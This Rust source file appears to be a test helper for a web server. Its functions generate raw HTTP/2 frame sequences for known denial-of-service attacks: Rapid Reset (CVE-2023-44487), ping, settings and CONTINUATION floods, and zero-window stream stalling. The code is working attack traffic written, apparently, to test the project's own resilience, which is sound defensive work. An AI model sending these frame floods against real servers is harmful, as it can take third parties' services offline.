//! Attacks by HTTP/2, frame by frame.
//!
//! Each function gives the bytes of a round and how many requests are in them; none when it has said all.

#[path = "../../src/web/tests/http2/frame.rs"]
mod frame;

pub(crate) use frame::PREFACE;
use frame::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
    head, initial_window,
};

const PATH: &str = "/metrics";

fn get(stream: u32) -> Vec<u8> {
    frame::get(PATH, stream)
}

/// A hundred streams whose answers may not begin, and later ones; nothing is ever given.
pub fn streams_without_window(round: u32) -> (Vec<u8>, u64) {
    match round {
        0 => (initial_window(0), 0),
        1 => ((0..100).flat_map(|stream| get(2 * stream + 1)).collect(), 100),
        _ => (Vec::new(), 0),
    }
}

/// CVE-2023-44487.
pub fn rapid_reset(round: u32) -> (Vec<u8>, u64) {
    if round == 0 {
        return (frame(SETTINGS, 0, 0, &[]), 0);
    }
    let reset = |stream| [get(stream), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat();
    ((0..100).flat_map(|stream| reset(2 * (100 * (round - 1) + stream) + 1)).collect(), 100)
}

/// CVE-2019-9512, and windows that grow by one.
pub fn pings(round: u32) -> (Vec<u8>, u64) {
    if round == 0 {
        return (frame(SETTINGS, 0, 0, &[]), 0);
    }
    let (ping, update) = (frame(PING, 0, 0, &[0; 8]), frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]));
    ([ping, update].concat().repeat(100), 200)
}

/// CVE-2019-9515.
pub fn settings(_: u32) -> (Vec<u8>, u64) {
    (frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(100), 100)
}

/// CVE-2024-27316: a head that goes on and on.
pub fn continuations(round: u32) -> (Vec<u8>, u64) {
    match round {
        0 => (frame(SETTINGS, 0, 0, &[]), 0),
        1 => (frame(HEADERS, END_STREAM, 1, &head(GET, PATH)), 1),
        // A field that stays out of the table: x: 1000 times x.
        _ => {
            let field = [&[0x00, 1, b'x', 0x7f, 0xe9, 0x06][..], &[b'x'; 1000]].concat();
            (frame(CONTINUATION, 0, 1, &field.repeat(10)), 1)
        }
    }
}

/// As much of bodies that nobody reads as the windows allow.
pub fn bodies(round: u32) -> (Vec<u8>, u64) {
    match round {
        0 => (initial_window(0), 0),
        1..=20 => {
            let stream = 2 * round - 1;
            let head = frame(HEADERS, END_HEADERS, stream, &head(POST, PATH));
            ([head, frame(DATA, 0, stream, &[0; 1 << 14]).repeat(4)].concat(), 1)
        }
        _ => (Vec::new(), 0),
    }
}
